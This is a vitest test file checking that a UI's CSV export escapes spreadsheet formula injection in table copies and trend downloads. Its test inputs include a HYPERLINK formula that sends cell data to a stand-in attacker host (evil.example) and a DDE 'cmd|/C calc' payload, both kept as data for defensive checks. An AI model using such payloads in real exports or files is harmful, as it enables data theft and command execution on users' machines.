import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { csvCell, tableCsv, toCsv } from "../../../src-renderer/ui/csv.ts";

// "Copy as CSV" (every DataTable) and the trends CSV download wrote cells as they were: a header or
// value such as ` =HYPERLINK(...)` ran when pasted into or opened in a spreadsheet. They now use the
// contract's neutralization, the one main's exports use, on the same fixture.

const fixture = JSON.parse(
  fs.readFileSync(path.join(import.meta.dirname, "../../fixtures/export/formula-injection.json"), "utf8"),
) as { dangerous: [string, string][]; harmless: string[] };

/** The text of one CSV cell as a spreadsheet reads it back. */
function unquote(cell: string): string {
  return cell.startsWith('"') && cell.endsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}

interface Row {
  user: string;
  note: string;
  amount: number;
  change: string;
}

describe("Copy as CSV", () => {
  it("neutralizes formula headers and values, and keeps numbers as numbers", () => {
    const columns = [
      { header: "user", value: (row: Row) => row.user },
      { header: ' =HYPERLINK("http://evil.example/?"&A2,"x")', value: (row: Row) => row.note },
      { header: "amount", value: (row: Row) => row.amount },
      { header: "change", value: (row: Row) => row.change },
    ];
    const rows: Row[] = [
      { user: "u1", note: "  @SUM(A1)", amount: -12.5, change: "+3" },
      { user: "u2", note: '"=1+1', amount: 4, change: "-2+3+cmd|' /C calc'!A0" },
    ];
    expect(tableCsv(columns, rows).split("\r\n")).toEqual([
      `user,"' =HYPERLINK(""http://evil.example/?""&A2,""x"")",amount,change`,
      "u1,'  @SUM(A1),-12.5,+3",
      `u2,"'""=1+1",4,'-2+3+cmd|' /C calc'!A0`,
    ]);
  });

  it("writes every dangerous cell of the export fixture as text, and the harmless ones as they are", () => {
    for (const [input, expected] of fixture.dangerous)
      expect(unquote(csvCell(input)), JSON.stringify(input)).toBe(expected);
    for (const value of fixture.harmless) expect(unquote(csvCell(value)), JSON.stringify(value)).toBe(value);
  });

  it("neutralizes the trends download's cells too (its rows go through toCsv)", () => {
    expect(
      toCsv([
        ["series", "value"],
        [" =1+1", -5],
        [null, 3],
      ]),
    ).toBe("series,value\r\n' =1+1,-5\r\n,3");
  });
});
